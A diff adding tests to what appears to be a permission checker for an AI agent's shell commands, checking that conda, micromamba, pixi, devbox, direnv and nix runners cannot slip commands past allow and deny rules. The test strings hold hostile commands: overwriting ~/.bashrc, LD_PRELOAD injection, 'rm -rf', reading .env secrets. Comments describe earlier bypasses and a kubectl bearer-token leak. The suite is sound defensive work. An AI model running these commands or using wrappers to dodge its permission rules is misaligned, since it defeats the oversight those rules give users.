@@ -4604,6 +4604,70 @@ describe('3. pdm, hatch, rye and mise run what their options and command say', (
   allowedByDefault(['pdm run pytest -x', 'pdm run -s -v pytest', 'pdm run -k post_run test', 'pdm run a.py', 'hatch run test:cov', 'hatch run +py=3.11 test', 'hatch run pytest', 'rye run pytest', 'rye run -l', 'mise run build', 'mise run -j 4 -f build ::: lint', 'mise run -n --output=prefix test'], RUN);
 });
 
+// conda, micromamba, pixi, devbox, direnv and nix run a command too (round 15 left open): conda,
+// micromamba and pixi were unknown programs whose words only met deny rules, so `conda run -n x cp a
+// ~/.bashrc` was allowed by Bash(conda run:*) with no Edit rule for ~/.bashrc, and
+// `micromamba run -e LD_PRELOAD=…` set what the command loads. The command after each runner's own
+// options (conda's `run` page, `micromamba run --help`, pixi's CLI reference, `devbox run --help`,
+// direnv(1), nix3-shell/nix3-develop/nix3-run, nix-shell(1)) is analysed as uv's is; options that
+// pick an environment anywhere, set variables or load another project ask; pixi and devbox join
+// the words into one text for their own shell, so a word that shell reads otherwise asks.
+// devbox, direnv, nix, `pixi exec` stay `executor` (they fetch or load code): they ask, and now deny
+// what the command they run meets.
+describe('3. conda, micromamba, pixi, devbox, direnv and nix run what their command says', () => {
+  const RUN: Extra = { allow: ['Bash(conda run:*)', 'Bash(micromamba run:*)', 'Bash(pixi run:*)', 'Bash(pixi exec:*)', 'Bash(devbox run:*)', 'Bash(direnv exec:*)', 'Bash(nix develop:*)', 'Bash(nix shell:*)', 'Bash(nix run:*)', 'Bash(nix-shell:*)', 'Bash(conda install:*)'] };
+  neverAllowed([
+    'conda run -n x cp a <H>/.bashrc',
+    'conda run --name=x -s tee <H>/.bashrc',
+    'conda run -n x -- sort -o <H>/x a',
+    'conda run -n x python -c 1',
+    'conda run -p <T>/data pytest',
+    'conda run --prefix=<T>/data pytest',
+    'conda run --dev pytest',
+    'conda run --cwd <T>/data cp a b',
+    'conda run --unknown pytest',
+    'conda run --live-stream=x pytest',
+    'conda $verb -n x pytest',
+    'micromamba run -n x cp a <H>/.bashrc',
+    'micromamba run -e LD_PRELOAD=<T>/x.so -n x pytest',
+    'micromamba run -p <T>/data pytest',
+    'micromamba run -r <T>/data -n x pytest',
+    'micromamba run --rc-file <T>/rc -n x pytest',
+    'pixi run cp a <H>/.bashrc',
+    'pixi r -e test tee <H>/.bashrc',
+    'pixi run --manifest-path <T>/data/pixi.toml test',
+    'pixi run --templated echo hi',
+    "pixi run echo 'a;b'",
+    'pixi run echo "$HOME"',
+    "pixi run 'echo a && touch b'",
+    'pixi exec -s ripgrep rg x',
+    'pixi exec cp a <H>/.bashrc',
+    'devbox run pytest',
+    'devbox run -c <T>/data pytest',
+    'direnv exec . cp a <H>/.bashrc',
+    'nix develop -c cp a <H>/.bashrc',
+    'nix shell nixpkgs#hello --command true',
+    'nix run nixpkgs#hello',
+    "nix-shell --run 'cp a <H>/.bashrc'",
+  ], RUN);
+  deniedEverywhere([
+    ["conda run -n x sh -c 'rm -rf x'", 'Bash(rm *)'],
+    ['conda run -n x cat .env', 'Read(**/.env)'],
+    ['conda run -n x foo rm -rf y', 'Bash(rm *)'],
+    ["micromamba run -n x bash -c 'cat .env'", 'Read(**/.env)'],
+    ['pixi run cat .env', 'Read(**/.env)'],
+    ["pixi run 'rm -rf y; echo'", 'Bash(rm *)'],
+    ['devbox run -- cat .env', 'Read(**/.env)'],
+    ["direnv exec . sh -c 'cat .env'", 'Read(**/.env)'],
+    ["nix develop -c bash -c 'rm -rf y'", 'Bash(rm *)'],
+    ['nix shell nixpkgs#coreutils --command cat .env', 'Read(**/.env)'],
+    ["nix run nixpkgs#bash -- -c 'rm -rf y'", 'Bash(rm *)'],
+    ["nix-shell --run 'rm -rf y'", 'Bash(rm *)'],
+    ["nix-shell -p x --command 'cat .env'", 'Read(**/.env)'],
+  ], RUN);
+  allowedByDefault(['conda run -n x pytest -x', 'conda run --name x --no-capture-output -- pytest', 'conda install run', 'micromamba run -n x -a "" pytest', 'pixi run pytest -x tests', 'pixi run -e test --frozen test'], RUN);
+});
+
 // kubectl's global flags after the verb (round 13 review A8, left open for all but --kubeconfig):
 // `kubectl get pods --server=https://host --insecure-skip-tls-verify` sent the kubeconfig's bearer
 // token to host (kubectl 1.32 under bash 5.2, a TLS listener logging `Authorization: Bearer
